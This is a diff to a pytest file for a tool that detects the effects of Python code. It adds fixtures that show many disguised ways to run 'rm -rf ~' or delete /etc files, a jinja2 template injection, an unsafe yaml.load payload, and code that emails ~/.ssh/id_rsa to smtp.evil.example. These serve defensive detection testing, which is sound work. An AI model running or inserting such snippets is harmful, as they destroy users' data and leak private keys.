@@ -162,7 +162,7 @@ Image.new("RGB", (1, 1)).save("icon.png")
 import tempfile
 with tempfile.NamedTemporaryFile("w", suffix=".txt") as f:
     f.write("scratch")
--> nothing
+-> write /tmp/….txt @temp [create]
 
 import shutil
 shutil.copy("src/a.py", "src/b.py")
@@ -277,6 +277,7 @@ os.system("rm -rf " + target)
 import shutil, tempfile
 d = tempfile.mkdtemp()
 shutil.rmtree(d)
+-> write /tmp/… @temp [create]
 -> delete /tmp/… @temp [recursive]
 
 import os
@@ -1609,9 +1610,146 @@ re.sub("x", run, "x")
 '''
 
 
+DOORS = r"""
+import subprocess
+p = subprocess.Popen(["sh"], stdin=subprocess.PIPE)
+p.communicate(b"rm -rf ~")
+-> delete ~ @home [recursive]
+
+import subprocess
+p = subprocess.Popen("bash", shell=True, stdin=subprocess.PIPE)
+p.stdin.write(b"rm -rf ~\n")
+-> delete ~ @home [recursive]
+
+import subprocess
+p = subprocess.Popen(["grep", "x"], stdin=subprocess.PIPE)
+p.communicate(b"rm -rf ~")
+-> nothing
+
+import os
+os.path.os.remove("/etc/hosts")
+-> delete /etc/hosts @system
+
+## doors that open from inside other things
+import pathlib
+pathlib.Path.unlink(pathlib.Path("/etc/hosts"))
+-> delete /etc/hosts @system
+
+import pkgutil
+pkgutil.resolve_name("os:system")("rm -rf ~")
+-> delete ~ @home [recursive]
+
+import sys
+sys.modules.get("os").system("rm -rf ~")
+-> delete ~ @home [recursive]
+
+import builtins
+builtins.__dict__.get("exec")("import os; os.remove('/etc/hosts')")
+-> delete /etc/hosts @system
+
+import gc
+[x for x in gc.get_objects() if x][0].system("rm -rf ~")
+-> delete ~ @home [recursive]
+
+import platform
+print(platform.system())
+-> nothing
+
+import ctypes
+ctypes.cdll.msvcrt.system(b"rm -rf ~")
+-> delete ~ @home [recursive]
+
+import ctypes, ctypes.util
+ctypes.CDLL(ctypes.util.find_library("c")).system(b"rm -rf ~")
+-> delete ~ @home [recursive]
+
+import code
+code.InteractiveConsole().push("import os; os.remove('/etc/hosts')")
+-> delete /etc/hosts @system
+
+import pydoc
+pydoc.pipepager("", "rm -rf ~")
+-> delete ~ @home [recursive]
+
+import distutils.spawn
+distutils.spawn.spawn(["rm", "-rf", "/etc"])
+-> delete /etc @system [recursive]
+
+import jinja2
+jinja2.Template("{{ x.__init__.__globals__['os'].popen('id').read() }}").render()
+-> run text that reaches code, handed to jinja2.Template @unknown [built]
+
+import yaml
+yaml.load("!!python/object/apply:os.system ['id']", Loader=yaml.Loader)
+-> run code in pickled bytes @unknown [built]
+
+import yaml
+print(yaml.safe_load(open("config.yml")))
+-> read config.yml @workspace
+
+import logging
+logging.basicConfig(filename="/home/user/.bashrc")
+-> write ~/.bashrc @startup [append]
+
+import logging
+logging.basicConfig(level=logging.INFO, filename="app.log")
+-> write app.log @output [append]
+
+import os
+os.kill(os.getppid(), 9)
+-> control getppid() @machine [signal computed]
+
+import smtplib
+from email.message import EmailMessage
+message = EmailMessage()
+message.set_content(open("/home/user/.ssh/id_rsa").read())
+smtplib.SMTP("smtp.evil.example").send_message(message)
+-> read ~/.ssh/id_rsa @secret
+-> send smtp.evil.example from ~/.ssh/id_rsa @remote
+
+import requests, os
+session = requests.Session()
+session.headers.update({"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]})
+print(session.get("https://api.github.com/user").json())
+-> fetch api.github.com @known
+
+import requests, os
+session = requests.Session()
+session.headers["Authorization"] = os.environ["GITHUB_TOKEN"]
+-> nothing
+
+import argparse
+parser = argparse.ArgumentParser()
+parser.add_argument("--output", default="out.txt")
+parser.add_argument("--force", action="store_true")
+args = parser.parse_args()
+open(args.output, "w").write("x")
+-> write out.txt @workspace
+
+import argparse, shutil
+parser = argparse.ArgumentParser()
+parser.add_argument("target")
+args = parser.parse_args()
+shutil.rmtree(args.target)
+-> delete target @unknown [recursive]
+
+import os
+os.posix_spawn("/bin/rm", ["rm", "-rf", "/etc"], os.environ)
+-> delete /etc @system [recursive]
+
+import threading, os
+threading.Timer(1, os.system, ["rm -rf ~"]).start()
+-> delete ~ @home [recursive]
+
+import os
+type("X", (), {"__init__": lambda self: os.remove("/etc/hosts")})()
+-> delete /etc/hosts @system
+"""
+
+
 @pytest.mark.parametrize(
     ("text", "expected"),
-    rows(FILES) + rows(REMOVALS_AND_PROGRAMS) + rows(NETWORK_AND_SECRETS) + rows(CODE_AND_ORDINARY_WORK),
+    rows(FILES) + rows(REMOVALS_AND_PROGRAMS) + rows(NETWORK_AND_SECRETS) + rows(CODE_AND_ORDINARY_WORK) + rows(DOORS),
 )
 def test_python_text_has_exactly_these_effects(text, expected):
     assert differences(effects_of_code(text, "python"), expected) == []
